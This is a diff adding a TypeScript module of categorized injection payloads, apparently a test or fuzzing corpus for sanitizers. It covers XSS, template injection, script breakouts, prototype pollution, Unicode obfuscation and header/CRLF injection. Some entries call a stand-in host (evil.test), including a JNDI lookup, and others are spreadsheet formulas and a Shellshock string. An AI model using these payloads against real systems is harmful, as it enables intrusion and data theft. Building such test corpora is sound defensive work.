@@ -1,0 +1,27 @@
+/** What writers of markup that is not HTML would make a link or a picture of. */
+export const markings = [
+  '[a](javascript:xss(0))', '[a](JaVaScRiPt:xss(0))', '[a](java\tscript:xss(0))', '[a](&#106;avascript:xss(0))', '[a](data:text/html,xss(0))', '[a](vbscript:xss(0))', '[a](//evil.test/0)', '[a](/\\evil.test/0)', '[a](<javascript:xss(0)>)', '[a]( javascript:xss(0))', '[a](https://evil.test/0"onload="xss(0))', '[a](x "onload=xss(0)")', '![a](x"onerror="xss(0))', '![a](//evil.test/0)', '![](javascript:xss(0))', '[a][0]\n\n[0]: javascript:xss(0)', '<javascript:xss(0)>', '<https://evil.test/0"onload=xss(0)>', '`<img src=x onerror=xss(0)>`', '```<script>xss(0)</script>```',
+  '## <img src=x onerror=xss(0)>', '- <script>xss(0)</script>', '1. [a](javascript:xss(0))', '> <svg onload=xss(0)>', '|<img src=x onerror=xss(0)>|', '~~<b onclick=xss(0)>~~', '[[a|javascript:xss(0)]]', '{{<script>xss(0)</script>}}', '[url=javascript:xss(0)]a[/url]', '[url]javascript:xss(0)[/url]', '[img]x" onerror="xss(0)[/img]', '[img]//evil.test/0[/img]', '[color=red;xss:expression(xss(0))]a[/color]', '[script]xss(0)[/script]', '"a":javascript:xss(0)', '!//evil.test/0!', '<a href="[b](c)" onload="xss(0)">', '[<img src=x onerror=xss(0)>](/charts)', '[a](/charts"onmouseover="xss(0))', '[a](/charts?<script>xss(0)</script>)',
+] as const;
+
+export const templates = [
+  '{{xss(0)}}', '{{constructor.constructor("xss(0)")()}}', '{{{xss(0)}}}', '${xss(0)}', '`${xss(0)}`', '#{xss(0)}', '<%= xss(0) %>', '<%- xss(0) %>', '<?= xss(0) ?>', '<?php xss(0) ?>', '{%raw%}<script>xss(0)</script>', '{{"".constructor.constructor("xss(0)")()}}', '{{$on.constructor("xss(0)")()}}', '[[${xss(0)}]]', '@(xss(0))', '@{xss(0)}', '*{xss(0)}', '{$xss(0)}', '{!! xss(0) !!}', '<div v-html="xss(0)">', '<div ng-app ng-init="xss(0)">', '<x :href="xss(0)">', '<x @click="xss(0)">', '<x x-data x-init="xss(0)">', '<x hx-on:load="xss(0)">', '<x data-bind="html:xss(0)">', '%s%n%x xss(0)', '%{xss(0)}', '${jndi:ldap://evil.test/0}', '$& $1 $` $\' <script>xss(0)</script>',
+] as const;
+
+/** Out of a string, an object, a comment or a block of data within a script. */
+export const strings = [
+  '</script><script>xss(0)</script>', '</SCRIPT><img src=x onerror=xss(0)>', '</script\t><svg onload=xss(0)>', '</script/x><svg onload=xss(0)>', '<!--<script>xss(0)', '<!--<script></script>--><script>xss(0)</script>', '--><script>xss(0)</script>', '--!><script>xss(0)</script>', "';xss(0);'", '";xss(0);"', '`;xss(0);`', "\\';xss(0);//", '\\";xss(0);//', "'-xss(0)-'", '"-xss(0)-"', '"+xss(0)+"', "'+xss(0)+'", '\nxss(0)\n', '\r\nxss(0)//', '\u2028xss(0)//', '\u2029xss(0)//', '*/xss(0)/*', '"}];xss(0);//', '"},"@type":"</script><script>xss(0)</script>', '{"a":"<!--"}<script>xss(0)</script>', '\\u003c/script>\\u003cscript>xss(0)', '});xss(0);({', ';xss(0);', '//\nxss(0)', 'xss(0)', 'alert(0)', 'eval(xss(0))', 'callback=xss(0)', '?callback=xss&jsonp=xss(0)', '/**/xss(0)&callback=', 'xss(0)//?format=jsonp', ')]}\',\nxss(0)', 'while(1);xss(0)', '["<script>xss(0)</script>"]', '{"toString":"xss(0)"}',
+] as const;
+
+export const keys = [
+  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__proto__ xss(0)', 'constructor xss(0)', 'prototype xss(0)', '__proto__[innerHTML]=<img src=x onerror=xss(0)>', 'constructor.prototype.src=//evil.test/0', '{"__proto__":{"onload":"xss(0)"}}', '__proto__.dangerouslySetInnerHTML.__html=xss(0)', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss(0)>"}}', '{"$$typeof":"Symbol(react.element)","props":{"href":"javascript:xss(0)"}}', 'hasOwnProperty xss(0)', 'toString xss(0)', 'valueOf xss(0)', 'innerHTML=xss(0)', '[object Object] xss(0)', '$where: xss(0)', '<form id=x><input name=innerHTML value=xss(0)>', '<a id=defaultView><a id=defaultView name=x href=//evil.test/0>', '<img name=getElementById src=x onerror=xss(0)>',
+] as const;
+
+/** What hides, turns round or piles up characters. */
+export const unseen = [
+  '\u202e<script>xss(0)</script>', '\u2066<img src=x onerror=xss(0)>\u2069', '\u200b<script>xss(0)</script>', '<\u200bscript>xss(0)</script>', '<s\u200dcript>xss(0)</script>', '\ufeff<script>xss(0)</script>', '<scr\u00adipt>xss(0)</script>', '\u061c<svg onload=xss(0)>', '\ufff9<b onclick=xss(0)>\ufffb', `Z${'\u0351\u0346\u035a'.repeat(16)}<script>xss(0)</script>`, `${'\u0e49'.repeat(40)}xss(0)`, `<img src=x${'\u0301'.repeat(20)} onerror=xss(0)>`, '\ud800<script>xss(0)</script>', '<img src=x onerror=xss(0)\udfff>', '\u{e003c}script\u{e003e}xss(0)', '\u{1f469}\u200d\u{1f469}<img src=x onerror=xss(0)>', '\u0085<script>xss(0)</script>', '\u001b]8;;javascript:xss(0)\u0007a', '\u001b[31m<script>xss(0)</script>', '\u007f<img src=x onerror=xss(0)>', '\ufdd0\uffff<svg onload=xss(0)>', '\u00e9\u0065\u0301<b onload=xss(0)>', '\u{1d4ae}\u{1d4b8}ript<script>xss(0)</script>', '\u3164<script>xss(0)</script>',
+] as const;
+
+export const headers = [
+  'a\r\nSet-Cookie: x=xss(0)', 'a\nLocation: //evil.test/0', 'a\r\n\r\n<script>xss(0)</script>', 'a%0d%0aSet-Cookie:%20x=xss(0)', 'a%0a%0d<script>xss(0)</script>', 'a\u560d\u560aSet-Cookie: xss(0)', 'a\u2028X: xss(0)', '"; filename="xss(0).html', "a; filename*=UTF-8''%3Cscript%3Exss(0)", 'text/html; xss(0)', 'a\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=xss(0)>', 'Mozilla/5.0 <script>xss(0)</script> Firefox/1 Linux', 'a\r\nBcc: x@evil.test\r\n\r\nxss(0)', '=?utf-8?q?=3Cscript=3Exss(0)=3C/script=3E?=', '=HYPERLINK("//evil.test/0")', '=cmd|xss(0)!A0', '(){ :;}; xss(0)',
+] as const;
